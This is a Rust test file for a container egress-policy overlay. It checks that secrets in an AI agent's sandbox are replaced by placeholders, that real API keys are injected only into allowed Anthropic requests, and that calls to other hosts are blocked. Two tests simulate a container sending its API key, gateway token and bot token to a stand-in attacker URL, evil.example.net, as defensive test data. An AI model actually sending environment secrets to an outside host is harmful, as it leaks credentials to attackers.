//! What leaves a container, with and without the overlay.

use jiff::Timestamp;
use reqwest::Method;

use super::super::disk::PROFILES;
use super::TOKEN;
use crate::account::drive::{Drive, reveal};
use crate::policy::{self, Compiled, Request};
use crate::secret::SecretText;
use crate::sys::clock;

const POLICY: &str = r#"
version = 1
[[egress.allow]]
id = "anthropic"
host = "api.anthropic.com"
methods = ["POST"]
paths = ["/v1/messages"]
[credentials.ANTHROPIC_API_KEY]
placeholder = "sk-ant-moltctl-injected"
[[credentials.ANTHROPIC_API_KEY.inject]]
how = "header"
host = "api.anthropic.com"
name = "x-api-key"
[credentials.TELEGRAM_BOT_TOKEN]
placeholder = "moltctl-injected"
keep_before = ":"
inject = []
"#;
const BOT: &str = "4242:AAtelegram-token-of-a-test";

/// A bundle with the overlay in it, as far as the account looks.
fn bundle() -> String {
    let compiled = Compiled::of(&policy::parse(POLICY).unwrap());
    let text = serde_json::to_string(&serde_json::to_string(&compiled).unwrap()).unwrap();
    format!(
        "export class ContainerProxy {{}}\nexport const POLICY = JSON.parse({text});\nexport default {{}}"
    )
}

/// A Moltworker with this code, its gateway started, and the key it has.
async fn molt(code: &str) -> (Drive, SecretText) {
    let drive = Drive::start().await;
    let key = drive.account.change_world(|w| {
        w.gateway_boots_in(0);
        w.mint_provider_key("anthropic", clock::now()).unwrap()
    });
    let (real, tested) = (reveal(&key), [TOKEN, ("E2E_TEST_MODE", "true")]);
    let vars = [tested[0], tested[1], ("ANTHROPIC_API_KEY", &real), ("TELEGRAM_BOT_TOKEN", BOT)];
    let host = drive.moltworker_of(code, &vars).await;
    drive.visit(Method::GET, &format!("{host}/x"), &[]).await;
    (drive, key)
}

fn soon() -> Timestamp {
    clock::now() + jiff::SignedDuration::from_secs(1)
}

#[tokio::test]
async fn without_the_overlay_everything_arrives_with_the_keys_in_it() {
    let (drive, _) = molt("export default {}").await;
    let gone = drive
        .account
        .change_world(|w| w.environment_leaves("molt", "https://evil.example.net/take", soon()))
        .unwrap();
    assert_eq!((gone.status, gone.host.as_str()), (200, "evil.example.net"));
    for slot in ["ANTHROPIC_API_KEY", "MOLTBOT_GATEWAY_TOKEN", "TELEGRAM_BOT_TOKEN"] {
        assert!(gone.secrets.iter().any(|name| name == slot), "{:?}", gone.secrets);
    }
}

#[tokio::test]
async fn with_it_strangers_are_refused_and_the_container_holds_placeholders() {
    let (drive, key) = molt(&bundle()).await;
    let account = &drive.account;
    let refused = account
        .change_world(|w| w.environment_leaves("molt", "https://evil.example.net/take", soon()))
        .unwrap();
    assert_eq!((refused.status, refused.secrets.len()), (403, 0));
    let log = refused.log.unwrap();
    assert_eq!((log.host.as_str(), log.reason.as_str()), ("evil.example.net", "host"));
    assert_eq!(account.world(|w| w.denials().len()), 1);

    let request = Request::new("POST", "https://api.anthropic.com/v1/messages");
    let allowed = account.change_world(|w| w.departs("molt", request, soon()));
    assert_eq!((allowed.status, allowed.secrets), (200, vec!["ANTHROPIC_API_KEY".to_owned()]));

    // What a program in the container can read is no key; what the model's provider gets is the real one.
    let env = account.world(|w| w.moltworker.sandboxes["molt"].gateway.as_ref().unwrap().env.clone());
    assert_eq!(env["ANTHROPIC_API_KEY"], "sk-ant-moltctl-injected");
    assert_eq!(env["TELEGRAM_BOT_TOKEN"], "4242:moltctl-injected");
    let asked = account.change_world(|w| w.ask_gateway("molt", None, soon())).unwrap();
    assert_eq!((asked.worked, asked.fingerprint), (true, key.fingerprint()));
}

#[tokio::test]
async fn a_key_that_onboarding_stored_gives_way_at_the_next_start() {
    let (drive, key) = molt("export default {}").await;
    let (real, tested) = (reveal(&key), [TOKEN, ("E2E_TEST_MODE", "true")]);
    let vars = [tested[0], tested[1], ("ANTHROPIC_API_KEY", real.as_str())];
    let host = drive.moltworker_of(&bundle(), &vars).await;
    let stored =
        || drive.account.world(|w| w.moltworker.sandboxes["molt"].disk.json(PROFILES).unwrap().to_string());
    assert!(stored().contains(&real), "a new version does not restart the gateway");
    drive.visit(Method::POST, &format!("{host}/api/admin/gateway/restart"), &[]).await;
    assert!(!stored().contains(&real) && stored().contains("sk-ant-moltctl-injected"));
    let asked = drive.account.change_world(|w| w.ask_gateway("molt", None, soon())).unwrap();
    assert_eq!((asked.worked, asked.fingerprint), (true, key.fingerprint()));
}

#[tokio::test]
async fn an_old_compatibility_date_enforces_nothing() {
    let (drive, _) = molt(&bundle()).await;
    assert!(drive.account.world(|w| w.enforced_policy("molt").is_some()));
    drive.account.change_world(|w| {
        for version in &mut w.workers.scripts.get_mut("molt").unwrap().versions {
            version.compatibility_date = Some("2025-05-06".to_owned());
        }
    });
    assert!(drive.account.world(|w| w.enforced_policy("molt").is_none()));
}
